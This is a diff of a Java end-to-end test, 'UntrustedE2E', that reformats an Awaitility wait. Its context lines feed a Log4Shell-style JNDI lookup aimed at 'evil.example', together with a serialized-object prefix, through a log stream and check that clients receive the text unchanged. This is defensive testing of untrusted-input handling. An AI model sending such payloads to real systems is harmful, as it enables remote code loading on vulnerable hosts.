@@ -329,8 +329,11 @@ class UntrustedE2E {
                 LineClient http = LineClient.get(port, "/stream/raw");
                 RawWebSocket web = RawWebSocket.connect(port, "/ws");
                 LineClient raw = LineClient.tcp(tcp)) {
-            Awaitility.await().until(this::status, told -> told.contains("\"transport\":\"tcp\"")
-                    && told.contains("\"transport\":\"websocket\""));
+            Awaitility.await()
+                    .until(
+                            this::status,
+                            told -> told.contains("\"transport\":\"tcp\"")
+                                    && told.contains("\"transport\":\"websocket\""));
             LogWriter.appendLines(log, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== ${jndi:ldap://evil.example/a}");
             for (LineClient client : List.of(http, raw)) {
                 assertEquals("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== ${jndi:ldap://evil.example/a}", client.line());
